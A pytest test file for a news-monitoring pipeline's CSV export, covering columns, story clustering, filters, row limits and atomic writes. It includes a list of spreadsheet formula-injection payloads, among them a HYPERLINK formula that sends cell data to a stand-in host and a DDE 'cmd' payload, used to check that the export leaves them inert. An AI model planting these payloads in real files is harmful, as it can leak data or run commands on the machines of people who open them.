"""The period CSV on both backends: every column, clusters once with "also
published by", filters, formula payloads re-read from the file, Excel row
limit, atomic replacement, and the outlet registry lookups."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from pipeline.config import DEFAULTS_DIR, validate_file
from pipeline.curate.csvsafe import TRIGGERS
from pipeline.curate.export import (
    COLUMNS,
    ExportFilter,
    OutputError,
    export_period,
)
from pipeline.curate.views import outlet_info
from pipeline.outlets import Registry
from pipeline.store import Store
from tests.curate.factory import NOW, PERIOD, FakeRegistry, decide, save


def _read(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def _export(store: Store, tmp_path: Path, **kw: Any) -> list[dict[str, str]]:
    out = tmp_path / "out.csv"
    export_period(store, PERIOD, out, registry=kw.pop("registry", FakeRegistry()), **kw)
    return _read(out)


def test_every_column_of_one_article(store: Store, tmp_path: Path) -> None:
    aid = save(
        store,
        "Irán y Venezuela acuerdan vuelos directos Caracas-Teherán",
        outlet="ir_hispantv",
        url="https://www.hispantv.com/noticias/venezuela/123",
        actors=("iran", "venezuela"),
        topics=("diplomatic",),
        countries=("ve",),
        flags=("anti_us_rhetoric",),
        score=4.256,
        section="iran",
        language="es",
        published=datetime(2021, 9, 3, 18, 45, tzinfo=UTC),
        syndicated_from=None,
        cluster_id=None,
    )
    decide(store, aid, "included", section="iran", note="Confirmar fecha", analyst="lucia")
    (row,) = _export(store, tmp_path)
    assert tuple(row) == COLUMNS
    assert row == {
        "id": str(aid),
        "period": "2021-08",
        "section": "iran",
        "status": "included",
        "actors": "iran,venezuela",
        "topics": "diplomatic",
        "countries": "ve",
        "flags": "anti_us_rhetoric",
        "score": "4.256",
        "relevance": "relevant",
        "title": "Irán y Venezuela acuerdan vuelos directos Caracas-Teherán",
        "outlet": "ir_hispantv",
        "outlet_name": "HispanTV",
        "outlet_country": "ir",
        "state_media": "yes",
        "controlling_state": "iran",
        "syndicated_from": "",
        "language": "es",
        "published": "2021-09-03 18:45",
        "url": "https://www.hispantv.com/noticias/venezuela/123",
        "opinion": "no",
        "also_published_by": "",
        "why": "actor:iran=Irán; actor:venezuela=Maduro; topic:diplomatic=gas natural; "
        "country:ve=Caracas; flag:anti_us_rhetoric=imperialismo yanqui",
        "note": "Confirmar fecha",
        "cluster": "",
        "feeds": "",
        "analyst": "lucia",
        "version": "1",  # one decision so far: the revision the import checks
        "story": "",
        "also_reported_by": "",
    }


def test_a_story_names_the_other_outlets_that_reported_it(store: Store, tmp_path: Path) -> None:
    from datetime import timedelta

    from pipeline.article.stories import regroup_period
    from pipeline.config.settings import StoriesSettings
    from pipeline.tagging.entities import compile_entities
    from tests.curate.factory import AUG, RULES

    lead = "El Tribunal Constitucional de Cabo Verde rechazó el recurso de Alex Saab."
    reports = [
        ("ve_lapatilla", "Tribunal de Cabo Verde rechaza recurso de Alex Saab", None),
        ("int_infobae", "Cabo Verde rechazó el último recurso de Alex Saab", 90),
        ("co_eltiempo", "Cabo Verde rechazó el último recurso de Alex Saab", 90),  # a copy
        ("int_ap", "Cape Verde court rejects Alex Saab's appeal against extradition", None),
    ]
    ids = [
        save(store, title, outlet=outlet, published=AUG + timedelta(hours=i), text=lead,
             actors=("venezuela",), countries=("ve",), cluster_id=cluster)
        for i, (outlet, title, cluster) in enumerate(reports)
    ]  # fmt: skip
    save(store, "Rusia y Nicaragua firman un acuerdo", outlet="ru_rt_es")
    regroup_period(store, PERIOD, compile_entities(RULES), StoriesSettings(), NOW)
    rows = {r["outlet"]: r for r in _export(store, tmp_path)}
    assert set(rows) == {"ve_lapatilla", "int_infobae", "int_ap", "ru_rt_es"}
    story = rows["int_ap"]["story"]
    assert story and {rows[o]["story"] for o in ("ve_lapatilla", "int_infobae")} == {story}
    assert rows["int_infobae"]["also_published_by"] == "co_eltiempo"
    assert rows["int_infobae"]["also_reported_by"] == "int_ap, ve_lapatilla"
    assert rows["int_ap"]["also_reported_by"] == "co_eltiempo, int_infobae, ve_lapatilla"
    assert (rows["ru_rt_es"]["story"], rows["ru_rt_es"]["also_reported_by"]) == ("", "")
    assert ids[0] != ids[1]


def test_a_cluster_is_one_row_with_the_other_outlets(store: Store, tmp_path: Path) -> None:
    original = save(store, "China dona vacunas a Bolivia", outlet="int_infobae", cluster_id=1)
    save(
        store,
        "China dona vacunas a Bolivia",
        outlet="cn_xinhua",
        cluster_id=1,
        score=5.0,
        url="http://spanish.news.cn/2021-08/15/c_1.htm",
    )
    save(
        store,
        "China dona vacunas a Bolivia",
        outlet="int_elpais",
        cluster_id=1,
        url="https://elpais.com/internacional/2021-08-16/china.html",
    )
    alone = save(
        store,
        "Rusia envía técnicos a Nicaragua",
        outlet="co_eltiempo",
        url="https://www.eltiempo.com/mundo/rusia.html",
    )
    rows = _export(store, tmp_path)
    assert [int(r["id"]) for r in rows] == [original, alone]
    # The non-state copy stands for the story although the Xinhua copy scored higher.
    assert rows[0]["also_published_by"] == "cn_xinhua, int_elpais"
    assert rows[1]["also_published_by"] == ""


def test_an_analyst_included_member_stands_for_its_cluster(store: Store, tmp_path: Path) -> None:
    save(store, "Sputnik V llega a Paraguay", cluster_id=3)
    chosen = save(
        store,
        "Sputnik V llega a Paraguay",
        outlet="ru_sputnik_mundo",
        cluster_id=3,
        url="https://mundo.sputniknews.com/20210820/x.html",
    )
    decide(store, chosen, "included")
    (row,) = _export(store, tmp_path)
    assert int(row["id"]) == chosen and row["also_published_by"] == "int_infobae"


def test_cluster_ids_do_not_collide_with_article_ids(store: Store, tmp_path: Path) -> None:
    first = save(store, "Artículo uno")  # id 1, no cluster
    save(store, "Artículo dos", cluster_id=first)  # a cluster whose id equals article 1's id
    assert len(_export(store, tmp_path)) == 2


@pytest.mark.parametrize(
    ("flt", "expected"),
    [
        (ExportFilter(actor="china"), {"china"}),
        (ExportFilter(topic="nuclear"), {"nuclear"}),
        (ExportFilter(section="iran"), {"iran"}),
        (ExportFilter(status="excluded"), {"excluded"}),
        (ExportFilter(state_media=True), {"state"}),
        (ExportFilter(min_score=4.5), {"high"}),
        (ExportFilter(language="pt"), {"pt"}),
    ],
)
def test_filters(store: Store, tmp_path: Path, flt: ExportFilter, expected: set[str]) -> None:
    save(store, "china", actors=("china",), section="china", score=1.0)
    save(store, "nuclear", topics=("nuclear",), score=1.0)
    save(store, "iran", actors=("iran",), section="iran", score=1.0)
    decide(store, save(store, "excluded", score=1.0), "excluded")
    save(store, "state", outlet="ru_rt_es", url="https://actualidad.rt.com/s", score=1.0)
    save(store, "high", score=5.0)
    save(store, "pt", language="pt", score=1.0)
    assert {r["title"] for r in _export(store, tmp_path, flt=flt)} == expected


def test_not_relevant_items_only_with_all(store: Store, tmp_path: Path) -> None:
    save(store, "Relevante")
    save(store, "Deportes", relevant=False, actors=(), section=None)
    assert [r["title"] for r in _export(store, tmp_path)] == ["Relevante"]
    everything = _export(store, tmp_path, relevant_only=False)
    assert {r["relevance"] for r in everything} == {"relevant", "not_relevant"}


PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"c")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
]


def test_formula_payloads_in_every_untrusted_column_are_inert(store: Store, tmp_path: Path) -> None:
    for i, p in enumerate(PAYLOADS):
        aid = save(
            store, p, outlet=None, url=f"https://x.example/{i}", language=p[:10], syndicated_from=p
        )
        decide(store, aid, "candidate", note=p, analyst=p)
    rows = _export(store, tmp_path)
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for value in row.values():
            assert not value.startswith(TRIGGERS)
            assert not value.lstrip(" \r\n\t").startswith(TRIGGERS), value


def test_excel_bytes_by_default_and_plain_on_request(store: Store, tmp_path: Path) -> None:
    save(store, "Línea uno")
    export_period(store, PERIOD, tmp_path / "x.csv")
    export_period(store, PERIOD, tmp_path / "p.csv", plain=True)
    excel, plain = (tmp_path / "x.csv").read_bytes(), (tmp_path / "p.csv").read_bytes()
    assert excel.startswith(b"\xef\xbb\xbfid,") and excel.count(b"\r\n") == 2
    assert plain.startswith(b"id,") and b"\r" not in plain


def test_past_the_row_limit_the_export_continues_in_numbered_files(
    store: Store, tmp_path: Path
) -> None:
    ids = [save(store, f"Nota {i}", url=f"https://x.example/{i}") for i in range(5)]
    result = export_period(store, PERIOD, tmp_path / "big.csv", max_rows=2)
    assert result.rows == 5
    assert [p.name for p in result.files] == ["big.csv", "big-2.csv", "big-3.csv"]
    got = [int(r["id"]) for p in result.files for r in _read(p)]
    assert got == ids


def test_a_failed_export_leaves_the_previous_file(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    save(store, "Primera")
    out = tmp_path / "exports" / "out.csv"
    export_period(store, PERIOD, out)
    before = out.read_bytes()
    save(store, "Segunda")

    def boom(*_: Any, **__: Any) -> list[str]:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("pipeline.curate.export.row_cells", boom)
    with pytest.raises(OutputError, match=r"disk_full: export: cannot write .*No space left"):
        export_period(store, PERIOD, out)
    assert out.read_bytes() == before
    assert sorted(p.name for p in out.parent.iterdir()) == ["out.csv"]  # no temp left


def test_outlet_name_and_country_come_from_the_shipped_registry(
    store: Store, tmp_path: Path
) -> None:
    from pipeline.config.outlets_schema import OutletsFile

    registry = Registry.from_file(validate_file(DEFAULTS_DIR / "outlets.yaml", OutletsFile))
    save(store, "RT", outlet="ru_rt_es", url="https://actualidad.rt.com/a")
    (row,) = _export(store, tmp_path, registry=registry)
    assert (row["outlet_name"], row["outlet_country"]) == ("RT en Español", "ru")


def test_registry_api_variants_and_absence() -> None:
    class InfoOnly:
        def outlet_info(self, outlet_id: str) -> Any:
            return type("Info", (), {"name": "Granma", "country": "cu"})()

    assert outlet_info(InfoOnly(), "cu_granma") == ("Granma", "cu")
    assert outlet_info(FakeRegistry(), "unknown") == (None, None)
    assert outlet_info(object(), "x") == (None, None)
    assert outlet_info(None, "x") == (None, None)


def test_dates_stay_in_their_period(store: Store, tmp_path: Path) -> None:
    save(store, "Agosto", published=datetime(2021, 8, 1, 0, 0, tzinfo=UTC))
    save(store, "Octubre", published=datetime(2021, 10, 1, 0, 0, tzinfo=UTC))
    assert [r["title"] for r in _export(store, tmp_path)] == ["Agosto"]
    assert NOW.year == 2021
